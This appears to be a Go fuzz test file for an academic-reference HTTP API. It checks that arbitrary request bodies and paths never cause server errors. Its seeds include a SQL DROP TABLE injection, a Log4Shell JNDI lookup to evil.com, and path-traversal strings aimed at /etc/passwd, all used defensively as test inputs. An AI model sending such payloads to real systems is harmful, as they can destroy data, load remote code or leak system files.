package httpserver

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

var fuzzSeeds = []string{
	`{"doi":"10.1000/xyz"}`,
	`{"title":"Deep learning","authors":["LeCun, Y."],"year":2015}`,
	`{"topic":"graph neural networks","provider":"openalex","limit":5,"filters":{"year_from":2018}}`,
	`{"provider":"s2","arxiv_id":"1706.03762"}`,
	`{}`,
	`{"year":null}`,
	`{"authors":[null]}`,
	`{"filters":{"fields_of_study":[1,"a",null]}}`,
	`{"title":"'; DROP TABLE citation_cache; --"}`,
	`{"title":"${jndi:ldap://evil.com/a}"}`,
	`{"title":"‮right-to-left‬"}`,
	`{"doi":"../../etc/passwd"}`,
	`not json at all`,
	`{"a":1}{"b":2}`,
	"\x00",
	"\xff\xfe",
	`{` + strings.Repeat(`"k":`, 100) + `"v"}`,
}

// Arbitrary request bodies must never produce a server error.
func FuzzResolveAndDiscoverBodies(f *testing.F) {
	for _, seed := range fuzzSeeds {
		f.Add([]byte(seed))
	}

	s := newTestServer(&fakeResolver{}, nil)
	h := s.Handler()

	f.Fuzz(func(t *testing.T, body []byte) {
		for _, path := range []string{"/api/v1/references/resolve", "/api/v1/topics/discover"} {
			req := httptest.NewRequest(http.MethodPost, path, bytes.NewReader(body))
			rr := httptest.NewRecorder()
			h.ServeHTTP(rr, req)
			if rr.Code >= http.StatusInternalServerError {
				t.Fatalf("%s: body %q produced %d: %s", path, body, rr.Code, rr.Body.String())
			}
		}
	})
}

// Arbitrary path segments and query strings on listing routes must be
// answered without a server error.
func FuzzListingPaths(f *testing.F) {
	f.Add("DOI:10.1038/nature14539", "20")
	f.Add("cs.LG", "-1")
	f.Add("%2e%2e%2f", "abc")
	f.Add("", "1000000000000000000000")

	s := newTestServer(&fakeResolver{}, &fakeProviders{})
	h := s.Handler()

	f.Fuzz(func(t *testing.T, id, limit string) {
		target := "/api/v1/papers/" + id + "/citations?limit=" + limit
		req, err := http.NewRequest(http.MethodGet, target, nil)
		if err != nil {
			return
		}
		rr := httptest.NewRecorder()
		h.ServeHTTP(rr, req)
		if rr.Code >= http.StatusInternalServerError {
			t.Fatalf("%q produced %d", target, rr.Code)
		}
	})
}
